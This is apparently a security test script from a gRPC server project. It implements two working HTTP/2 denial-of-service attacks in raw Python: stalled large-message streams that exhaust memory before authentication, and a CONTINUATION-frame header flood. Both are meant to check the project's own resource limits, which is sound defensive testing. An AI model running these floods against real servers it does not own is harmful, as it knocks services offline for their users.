#!/usr/bin/env python3
"""Hostile HTTP/2 clients for bloom-server's resource-limit tests (docs/security.md).

A raw HTTP/2 client (standard library only, any python3) that does what a gRPC library never
would:

  stalled-messages  opens --streams calls on one connection, each announcing a --announce byte
                    gRPC message, sends --send bytes of each (as fast as flow control allows),
                    then stalls for --hold seconds with the connection open. Without a token (the
                    default) this is the pre-auth memory exhaustion the token gate stops.
  continuation-flood
                    one HEADERS frame without END_HEADERS, then CONTINUATION frames of one small
                    header each, until --flood_bytes are sent or the server closes the
                    connection.

It prints one JSON line: what was sent and how the server reacted. The caller measures the
server (RSS, whether it still serves).

  tests/hostile/h2_attacks.py --port 50051 stalled-messages --streams 50 --send 60Mi
"""

import argparse
import json
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
MAX_FRAME = 16384


def parse_size(text):
    units = {"Ki": 1 << 10, "Mi": 1 << 20, "Gi": 1 << 30}
    for suffix, factor in units.items():
        if text.endswith(suffix):
            return int(float(text[:-2]) * factor)
    return int(text)


def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """A literal header field without indexing and a new name, no Huffman coding."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream_id) + payload


def request_headers(path, authority, token):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
              (":authority", authority), ("content-type", "application/grpc"),
              ("te", "trailers")]
    if token:
        fields.append(("authorization", "Bearer " + token))
    return b"".join(hpack_literal(n, v) for n, v in fields)


class Connection:
    """One HTTP/2 connection; a reader thread tracks flow control and the server's reactions."""

    def __init__(self, host, port, tls=False, cert=None, key=None):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tls = tls
        if tls:
            # An attacker verifies nothing; it offers a client certificate only if given one.
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            if cert:
                context.load_cert_chain(cert, key)
            self.sock = context.wrap_socket(self.sock, server_hostname=host)
        self.lock = threading.Condition()
        self.connection_window = 65535
        self.initial_stream_window = 65535
        self.stream_windows = {}
        self.ended = set()  # streams the server reset or finished
        self.goaway = None
        self.closed = False
        self.settings_seen = threading.Event()
        # While a header block is open, HTTP/2 allows no other frame on the connection: the
        # reader must not interleave its acknowledgements.
        self.quiet = False
        self.send_lock = threading.Lock()
        self.io_lock = threading.Lock()
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self._read_loop, daemon=True).start()

    def send(self, data):
        with self.send_lock:
            if not self.tls:
                self.sock.sendall(data)
                return
            # Python's TLS sockets must not send and receive from two threads at once: send
            # in pieces, each under the lock the reader takes for its short reads (the socket
            # has a short timeout for those, so a full send buffer means "try again").
            view = memoryview(data)
            while view:
                with self.io_lock:
                    try:
                        view = view[self.sock.send(view[:1 << 16]):]
                        continue
                    except (socket.timeout, ssl.SSLWantWriteError):
                        pass
                time.sleep(0.001)

    def _recv(self):
        if not self.tls:
            return self.sock.recv(1 << 16)
        while True:
            with self.io_lock:
                try:
                    return self.sock.recv(1 << 16)
                except (socket.timeout, ssl.SSLWantReadError):
                    pass
            time.sleep(0.001)  # let a sender take the lock

    def _read_loop(self):
        buffered = b""
        try:
            self.sock.settimeout(0.01 if self.tls else None)
            while True:
                chunk = self._recv()
                if not chunk:
                    break
                buffered += chunk
                while len(buffered) >= 9:
                    length = int.from_bytes(buffered[:3], "big")
                    if len(buffered) < 9 + length:
                        break
                    kind, flags = buffered[3], buffered[4]
                    stream_id = int.from_bytes(buffered[5:9], "big") & 0x7FFFFFFF
                    payload = buffered[9:9 + length]
                    buffered = buffered[9 + length:]
                    with self.lock:
                        self._on_frame(kind, flags, stream_id, payload)
                        self.lock.notify_all()
        except (OSError, ConnectionError):
            pass
        with self.lock:
            self.closed = True
            self.lock.notify_all()

    def _on_frame(self, kind, flags, stream_id, payload):
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[i:i + 6])
                if key == SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self.initial_stream_window
                    self.initial_stream_window = value
                    for sid in self.stream_windows:
                        self.stream_windows[sid] += delta
            if not self.quiet:
                threading.Thread(target=self.send, args=(frame(SETTINGS, ACK, 0),),
                                 daemon=True).start()
            self.settings_seen.set()
        elif kind == PING and not flags & ACK and not self.quiet:
            threading.Thread(target=self.send, args=(frame(PING, ACK, 0, payload),),
                             daemon=True).start()
        elif kind == WINDOW_UPDATE:
            increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            if stream_id == 0:
                self.connection_window += increment
            elif stream_id in self.stream_windows:
                self.stream_windows[stream_id] += increment
        elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self.ended.add(stream_id)
        elif kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big") if len(payload) >= 8 else -1

    def open_stream(self, stream_id, header_block):
        with self.lock:
            self.stream_windows[stream_id] = self.initial_stream_window
        self.send(frame(HEADERS, END_HEADERS, stream_id, header_block))

    def reserve(self, stream_id, want, timeout):
        """Waits until `stream_id` may send; returns how many bytes (0: gave up or ended)."""
        deadline = time.monotonic() + timeout
        with self.lock:
            while True:
                if self.closed or self.goaway is not None or stream_id in self.ended:
                    return 0
                n = min(want, self.connection_window, self.stream_windows[stream_id])
                if n > 0:
                    self.connection_window -= n
                    self.stream_windows[stream_id] -= n
                    return n
                left = deadline - time.monotonic()
                if left <= 0:
                    return 0
                self.lock.wait(left)


def connect(args):
    """The connection, or None after printing how the server refused it."""
    try:
        return Connection(args.host, args.port, args.tls, args.cert, args.key)
    except (OSError, ssl.SSLError) as error:
        print(json.dumps({"attack": args.attack, "connection_refused": True,
                          "error": str(error)}))
        return None


def stalled_messages(args):
    conn = connect(args)
    if conn is None:
        return
    path = args.method if args.method.startswith("/") else "/bloom.v1.BloomFilterService/" + args.method
    streams = [1 + 2 * i for i in range(args.streams)]
    try:
        for sid in streams:
            conn.open_stream(sid, request_headers(path, f"{args.host}:{args.port}", args.token))
    except OSError:
        streams = []  # the server closed the connection
    # Each message starts with gRPC's 5-byte prefix: not compressed, then its length.
    pending = {sid: struct.pack(">BI", 0, args.announce) for sid in streams}
    opened = args.streams
    left = {sid: args.send for sid in streams}
    sent = 0
    started = time.monotonic()
    filler = b"\x0a" * MAX_FRAME
    while any(left.values()):
        progressed = False
        for sid in streams:
            if left[sid] <= 0:
                continue
            prefix = pending.pop(sid, b"")
            want = min(MAX_FRAME, left[sid] + len(prefix))
            n = conn.reserve(sid, want, timeout=args.stall_after if not progressed else 0)
            if n == 0:
                if prefix:
                    pending[sid] = prefix
                continue
            payload = (prefix + filler)[:n]
            if n < len(prefix):
                pending[sid] = prefix[n:]
            left[sid] -= max(0, n - len(prefix))
            try:
                conn.send(frame(DATA, 0, sid, payload))
            except OSError:
                left = {}
                break
            sent += n
            progressed = True
        if not progressed:
            break  # flow control or the server stopped every stream
    send_seconds = time.monotonic() - started
    time.sleep(args.hold)
    with conn.lock:
        result = {"attack": "stalled-messages", "streams": opened, "bytes_sent": sent,
                  "send_seconds": round(send_seconds, 2), "streams_ended_by_server":
                  len(conn.ended), "goaway": conn.goaway is not None,
                  "connection_closed": conn.closed}
    print(json.dumps(result))


def flood_block(kind, count):
    """One CONTINUATION frame's header block."""
    if kind == "distinct":
        return hpack_literal(f"x-flood-{count}", "v" * 8)
    if kind == "same":
        return hpack_literal("x-flood", "v" * 8)
    if kind == "indexing":  # literal with incremental indexing: grows the dynamic table
        name, value = b"x-flood", b"v" * 8
        return b"\x40" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value
    if kind == "indexed":
        return b"\x82"  # the static table's ":method: GET", one byte
    return b""  # empty CONTINUATION frames


def continuation_flood(args):
    conn = connect(args)
    if conn is None:
        return
    conn.settings_seen.wait(5)
    time.sleep(0.2)  # let the SETTINGS acknowledgement go out first
    with conn.lock:
        conn.quiet = True
    path = args.method if args.method.startswith("/") else "/bloom.v1.BloomFilterService/" + args.method
    sent, count = 0, 0
    started = time.monotonic()
    # Frames go out in prebuilt batches of 4096, as fast as the socket takes them.
    per_batch = 4096
    try:
        conn.send(frame(HEADERS, 0, 1,
                        request_headers(path, f"{args.host}:{args.port}", args.token)))
        while sent < args.flood_bytes and not conn.closed and conn.goaway is None:
            if args.header == "distinct" or count == 0:
                data = b"".join(frame(CONTINUATION, 0, 1, flood_block(args.header, count + i))
                                for i in range(per_batch))
            conn.send(data)
            sent += len(data)
            count += per_batch
            if time.monotonic() - started > args.max_seconds:
                break
    except OSError:
        pass
    seconds = time.monotonic() - started
    time.sleep(args.hold)
    with conn.lock:
        result = {"attack": "continuation-flood", "frames": count, "bytes_sent": sent,
                  "seconds": round(seconds, 2), "goaway": conn.goaway is not None,
                  "connection_closed": conn.closed}
    print(json.dumps(result))


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--token", default="", help="bearer token to send (default: none)")
    parser.add_argument("--method", default="Add",
                        help="a bloom.v1.BloomFilterService method, or a whole /path")
    parser.add_argument("--tls", action="store_true", help="speak TLS (verifying nothing)")
    parser.add_argument("--cert", help="client certificate (PEM) to offer over TLS")
    parser.add_argument("--key", help="its private key (PEM)")
    parser.add_argument("--hold", type=float, default=2.0,
                        help="seconds to keep the connection open afterwards")
    sub = parser.add_subparsers(dest="attack", required=True)
    stalled = sub.add_parser("stalled-messages")
    stalled.add_argument("--streams", type=int, default=50)
    stalled.add_argument("--announce", type=parse_size, default=parse_size("64Mi"))
    stalled.add_argument("--send", type=parse_size, default=parse_size("60Mi"))
    stalled.add_argument("--stall_after", type=float, default=2.0,
                         help="give up when flow control lets nothing through for this long")
    flood = sub.add_parser("continuation-flood")
    flood.add_argument("--flood_bytes", type=parse_size, default=parse_size("256Mi"))
    flood.add_argument("--max_seconds", type=float, default=20.0)
    flood.add_argument("--header", choices=["distinct", "same", "indexing", "indexed", "empty"],
                       default="same", help="what each CONTINUATION frame carries")
    args = parser.parse_args()
    if args.attack == "stalled-messages":
        stalled_messages(args)
    else:
        continuation_flood(args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
